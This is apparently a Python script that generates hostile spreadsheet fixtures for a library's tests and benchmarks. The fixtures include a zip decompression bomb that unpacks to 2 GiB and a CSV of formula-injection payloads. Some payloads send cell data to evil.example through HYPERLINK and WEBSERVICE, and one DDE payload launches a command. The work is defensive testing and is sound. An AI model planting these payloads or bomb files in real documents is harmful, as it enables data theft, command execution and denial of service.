"""Hostile ledger files for the reading and writing tests and ``benchmarks/hostile_ledger.py``.

Nothing here is committed as a binary: each function writes its file where it is told.

    python tests/data/hostile/make_ledger.py OUT_DIR      # the whole set, at full size
"""

from __future__ import annotations

import re
import sys
import zipfile
from pathlib import Path

_MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"


def _base_workbook(path: Path, rows: list[list[object]] | None = None) -> None:
    from openpyxl import Workbook

    book = Workbook()
    sheet = book.active
    for row in rows or [["合同名称", "金额"]]:
        sheet.append(row)
    book.save(path)


def _replace_part(path: Path, name: str, edit) -> None:  # type: ignore[no-untyped-def]
    """Rewrite the part ``name`` of the zip at ``path`` with ``edit(old_bytes) -> new_bytes``."""
    with zipfile.ZipFile(path) as old:
        parts = [(info, old.read(info)) for info in old.infolist()]
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as new:
        for info, data in parts:
            new.writestr(info.filename, edit(data) if info.filename == name else data)


def _sheet(rows_xml: str, dimension: str | None = None) -> bytes:
    dim = f'<dimension ref="{dimension}"/>' if dimension else ""
    return (
        f'<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="{_MAIN}">{dim}'
        f"<sheetData>{rows_xml}</sheetData></worksheet>"
    ).encode()


def _cell(ref: str, text: str) -> str:
    return f'<c r="{ref}" t="inlineStr"><is><t>{text}</t></is></c>'


def far_cells(path: Path, *, named: bool = False) -> Path:
    """A 1.6 KB workbook with a cell at XFD1 and one at row 1,048,576 (the last Excel allows);
    the XFD1 cell is blank but styled, or, with ``named``, a column name."""
    _base_workbook(path)
    far = _cell("XFD1", "x") if named else '<c r="XFD1" s="0"/>'
    rows = (
        f'<row r="1">{_cell("A1", "合同名称")}{_cell("B1", "金额")}{far}</row>'
        f'<row r="1048576">{_cell("A1048576", "软件开发服务")}'
        '<c r="B1048576"><v>100</v></c></row>'
    )
    _replace_part(path, "xl/worksheets/sheet1.xml", lambda _: _sheet(rows, "A1:XFD1048576"))
    return path


def stale_dimension(path: Path, rows: int = 10_000) -> Path:
    """A real ``rows``-row workbook whose ``<dimension>`` says A1:XFD1048576."""
    words = ["软件开发", "数据中心托管", "云服务", "技术咨询", "系统集成", "运维服务"]
    data: list[list[object]] = [["合同名称", "金额", "是否境外"]]
    data += [[f"为客户{i}提供{words[i % 6]}", 1000 + i, "是否"[i % 2]] for i in range(rows)]
    _base_workbook(path, data)
    _replace_part(
        path,
        "xl/worksheets/sheet1.xml",
        lambda xml: re.sub(rb'<dimension ref="[^"]*"\s*/>', b'<dimension ref="A1:XFD1048576"/>',
                           xml),
    )  # fmt: skip
    return path


def shared_strings_bomb(path: Path, unpacked: int = 2 << 30) -> Path:
    """A small workbook whose shared-strings part unpacks to ``unpacked`` bytes (2 GiB: the file
    is about 2 MB)."""
    _base_workbook(path)
    with zipfile.ZipFile(path) as old:
        parts = [(info, old.read(info)) for info in old.infolist()]
    item = b"<si><t>ab</t></si>"
    block = item * (1 << 16)
    count = unpacked // len(item)
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as new:
        for info, data in parts:
            if info.filename == "[Content_Types].xml":
                data = data.replace(
                    b"</Types>",
                    b'<Override PartName="/xl/sharedStrings.xml" ContentType="application/'
                    b'vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/>'
                    b"</Types>",
                )
            if info.filename == "xl/_rels/workbook.xml.rels":
                data = data.replace(
                    b"</Relationships>",
                    b'<Relationship Id="rIdSS" Type="http://schemas.openxmlformats.org/'
                    b'officeDocument/2006/relationships/sharedStrings" '
                    b'Target="sharedStrings.xml"/></Relationships>',
                )
            new.writestr(info.filename, data)
        with new.open("xl/sharedStrings.xml", "w", force_zip64=True) as part:
            part.write(f'<sst xmlns="{_MAIN}" count="{count}" uniqueCount="{count}">'.encode())
            written = 0
            while written + len(block) <= count * len(item):
                part.write(block)
                written += len(block)
            part.write(item * ((count * len(item) - written) // len(item)))
            part.write(b"</sst>")
    return path


def formula_without_value(path: Path) -> Path:
    """A workbook whose B3 and A4 are formulas never calculated (no saved value), as written by
    programs that do not calculate."""
    _base_workbook(path)
    rows = (
        f'<row r="1">{_cell("A1", "合同名称")}{_cell("B1", "金额")}</row>'
        f'<row r="2">{_cell("A2", "软件开发服务")}<c r="B2"><f>50+50</f><v>100</v></c></row>'
        f'<row r="3">{_cell("A3", "数据中心托管")}<c r="B3"><f>SUM(B1:B2)</f></c></row>'
        '<row r="4"><c r="A4" t="str"><f>"云"&amp;"服务"</f></c><c r="B4"><v>7</v></c></row>'
    )
    _replace_part(path, "xl/worksheets/sheet1.xml", lambda _: _sheet(rows))
    return path


INJECTION = [
    '=HYPERLINK("http://evil.example/?"&A1,"点击查看合同")',
    '=WEBSERVICE("http://evil.example/?"&B2)',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
]


def injection_csv(path: Path) -> Path:
    """A ledger whose text cells are formulas, as an attacker would plant them."""
    import csv

    with path.open("w", encoding="utf-8", newline="") as fh:
        out = csv.writer(fh)
        out.writerow(["合同名称", "金额"])
        for i, text in enumerate(INJECTION):
            out.writerow([text, i + 1])
    return path


def main(folder: str) -> None:
    out = Path(folder)
    out.mkdir(parents=True, exist_ok=True)
    for made in (
        far_cells(out / "far_cells.xlsx"),
        far_cells(out / "far_cells_named.xlsx", named=True),
        stale_dimension(out / "stale_dimension.xlsx"),
        shared_strings_bomb(out / "shared_strings_bomb.xlsx"),
        formula_without_value(out / "formula_without_value.xlsx"),
        injection_csv(out / "injection.csv"),
    ):
        print(f"{made}  {made.stat().st_size:,} bytes")


if __name__ == "__main__":
    main(sys.argv[1] if len(sys.argv) > 1 else "hostile")
